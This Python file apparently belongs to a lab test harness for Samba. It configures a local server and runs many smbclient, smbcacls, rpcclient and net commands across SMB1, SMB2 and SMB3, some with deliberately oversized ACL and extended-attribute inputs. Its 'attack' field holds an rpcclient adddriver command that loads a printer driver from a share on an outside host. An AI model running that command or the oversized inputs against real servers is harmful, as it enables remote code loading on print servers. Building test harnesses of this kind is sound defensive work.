# SPDX-License-Identifier: Apache-2.0
"""smbclient, smbcacls, rpcclient and net, over SMB1 and over SMB2 and 3 without encryption."""
import subprocess

from family import SERVER_ADDRESS, Failed, Family, Lab, folder_of, serve

SETTINGS = """
[global]
  server role = standalone server
  server min protocol = NT1
  netbios name = fileserver
  interfaces = {address}
  bind interfaces only = yes
  disable netbios = yes
  map to guest = Bad User
  lanman auth = yes
  ntlm auth = yes
  printing = lprng
  print command = /bin/rm -f %s
  lpq command = /bin/true
  load printers = no
  ea support = yes
  store dos attributes = yes
  vfs objects = acl_xattr xattr_tdb
  log file = {folder}/log
  lock directory = {folder}/run
  state directory = {folder}/run
  cache directory = {folder}/run
  pid directory = {folder}/run
  private dir = {folder}/run
  ncalrpc dir = {folder}/run/ncalrpc
[files]
  path = {folder}/files
  guest ok = yes
  read only = no
[print$]
  path = {folder}/drivers
  read only = no
[laser]
  path = {folder}/spool
  printable = yes
  guest ok = yes
"""


def start(lab: Lab) -> None:
    folder = folder_of(lab, "samba")
    for name in ("run", "files", "files/many", "drivers", "drivers/x64", "spool"):
        (folder / name).mkdir()
        (folder / name).chmod(0o777)
    for number in range(2500):
        (folder / f"files/many/a file with a rather long name, number {number:05}.txt").touch()
    (folder / "files/report.txt").write_bytes(b"An ordinary file.\n" * 40000)
    settings = folder / "smb.conf"
    settings.write_text(SETTINGS.format(folder=folder, address=SERVER_ADDRESS))
    added = subprocess.run(["smbpasswd", "-c", str(settings), "-s", "-a", "root"], input="secret\nsecret\n", capture_output=True, text=True)
    if added.returncode != 0:
        raise Failed(f"smbpasswd: {added.stdout}{added.stderr}")
    serve(lab, 445, "smbd", "--foreground", "--no-process-group", "-s", str(settings))


# In each of these a DIALECT is put.
EACH = r"""
smbclient -L $SERVER -N @
smbclient //$SERVER/files -N @ -c 'ls; volume; posix_encrypt; tcon files; tdis' || true
smbclient //$SERVER/files -U root%secret @ -c 'mkdir a; cd a; put /bin/bash bash; get bash bash.back; ls; allinfo bash; reget bash bash.back; rename bash sh; stat sh; utimes sh -1 -1 -1 -1; setmode sh +r; setmode sh -r; hardlink sh sh2; rm sh; rm sh2; cd ..; rmdir a'
cmp /bin/bash bash.back
smbclient //$SERVER/files -U root%secret @ -c 'ls many\*' | grep -q 'number 02499'
smbclient //$SERVER/files -U root%secret @ -c 'recurse; ls' >listing; grep -c 'number 0' listing | grep -q 2500
smbclient //$SERVER/files -U root%secret @ -c 'get report.txt -' | wc -c | grep -q 720000
smbclient //$SERVER/files -U root%secret @ -c 'setea report.txt Author "Anna"; setea report.txt Subject "a longer value of an extended attribute"; geteas report.txt' || true
for i in $(seq 30); do echo "setea report.txt NAME$i $(printf %200s x | tr ' ' e)"; done | smbclient //$SERVER/files -U root%secret @
smbclient //$SERVER/files -U root%secret @ -c 'showacls; ls report.txt; wdel 0 nothing*' || true
smbclient //$SERVER/files -U root%secret @ -Tc files.tar many
smbclient //$SERVER/files -U root%secret @ -c 'open report.txt; close 1; lookup nobody; getfacl report.txt' || true
smbcacls //$SERVER/files report.txt -U root%secret @
smbcacls //$SERVER/files report.txt -U root%secret @ -a 'ACL:Everyone:ALLOWED/0x0/READ'
smbcacls //$SERVER/files report.txt -U root%secret @ -M 'ACL:Everyone:ALLOWED/0x0/FULL'
smbcacls //$SERVER/files many -U root%secret @ --chown root
smbclient //$SERVER/laser -U root%secret @ -c 'print /etc/services; queue'
smbclient //$SERVER/laser -N @ -c 'put /etc/services job'
! smbclient //$SERVER/files -U root%wrong @ -c ls
! smbclient //$SERVER/nothing -U root%secret @ -c ls
rpcclient $SERVER -U root%secret @ -c 'srvinfo; netshareenumall; netsharegetinfo files; netfileenum; netremotetod; netnamevalidate files 9; netdiskenum'
rpcclient $SERVER -U root%secret @ -c 'enumdomusers; enumdomgroups; enumalsgroups builtin; querydominfo; querydispinfo; getdompwinfo; enumdomains; lookupdomain FILESERVER; queryuser root; createdomuser nobody2; getusrdompwinfo 0x3e8' || true
rpcclient $SERVER -U root%secret @ -c 'lsaquery; enumprivs; lookupnames root; lookupnames root nobody daemon bin sys mail news games; lookupsids S-1-1-0 S-1-5-32-544 S-1-5-32-545 S-1-5-11 S-1-22-1-0; lsaenumsid; dsroledominfo; getdispname SeBackupPrivilege; lsaenumprivsaccount S-1-5-32-544; lookupsids3 S-1-1-0; lookupnames4 root' || true
rpcclient $SERVER -U root%secret @ -c 'enumprinters; enumprinters 2; getprinter laser 2; openprinter laser; openprinter_ex laser; enumports; enumforms laser; enumjobs laser; enumdrivers; getdriverdir; enumprocs; enumdata laser; getprintprocdir; enummonitors' || true
echo driver | smbclient '//'$SERVER'/print$' -U root%secret @ -c 'put /etc/services x64\drv.dll; put /etc/services x64\drv.ppd; put /etc/services x64\ui.dll; put /etc/services x64\drv.hlp; ls x64\*'
rpcclient $SERVER -U root%secret @ -c 'adddriver "Windows x64" "A Driver:drv.dll:drv.ppd:ui.dll:drv.hlp:NULL:RAW:NULL" 3; setdriver laser "A Driver"; getdriver laser; deldriver "A Driver"' || true
rpcclient $SERVER -U root%secret @ -c 'wkssvc_wkstagetinfo; wkssvc_getjoininformation; wkssvc_enumerateusers; winreg_enumkey hklm; dfsexist; dfsversion; eventlog_readlog System; querymultiplevalues; epmmap' || true
net rpc registry enumerate 'HKLM\SOFTWARE' -S $SERVER -U root%secret @
net rpc service list -S $SERVER -U root%secret @
net rpc share list -S $SERVER -U root%secret @
net rpc rights list accounts -S $SERVER -U root%secret @ || true
"""
# What only SMB1 has: UNIX extensions and locks of theirs, transactions in several messages (NT_TRANSACT_SECONDARY), old logins.
OLD = r"""
smbcacls //$SERVER/files many -U root%secret @ -S "REVISION:1,OWNER:root$(for i in $(seq 900); do printf ',ACL:S-1-5-21-1000-2000-3000-%d:ALLOWED/0x0/READ' $i; done)"; true
for i in 1 2 3; do echo "setea report.txt LARGE$i $(printf %20000s | tr ' ' e)"; done | smbclient //$SERVER/files -U root%secret @
smbclient //$SERVER/files -U root%secret @ -c 'posix; mkdir p; chmod 700 p; symlink report.txt link; readlink link; posix_mkdir q 755; posix_open report.txt 600; lock 1 w 0 10; unlock 1 0 10; close 1; posix_rmdir q; posix_unlink link; rmdir p; getfacl report.txt; stat report.txt' || true
smbclient //$SERVER/files -U root%secret @ --option='client use spnego=no' --option='client ntlmv2 auth=no' -c 'ls report.txt'
smbclient //$SERVER/files -U root%secret --option='client min protocol=CORE' -m LANMAN2 -c 'ls report.txt' || true
"""
OPTIONS = {"NT1": "--option='client min protocol=NT1' --option='client max protocol=NT1'",
           "SMB2": "--option='client min protocol=SMB2_02' --option='client max protocol=SMB2_02'",
           "SMB3": "--option='client min protocol=SMB3_11' --option='client max protocol=SMB3_11'"}
COMMANDS = (EACH + OLD).replace("@", OPTIONS["NT1"]) + EACH.replace("@", OPTIONS["SMB2"]) + EACH.replace("@", OPTIONS["SMB3"])

FAMILY = Family(programs=("smbd", "smbpasswd", "smbclient", "smbcacls", "rpcclient", "net"), start=start, protocols=("smb", "dcerpc"),
                commands=COMMANDS,
                attack=r"""rpcclient $SERVER -U root%secret -c 'adddriver "Windows x64" "Other:\\198.18.0.9\share\drv.dll:drv.ppd:ui.dll:NULL:NULL:RAW:NULL" 3' || true""",
                found=9102140)
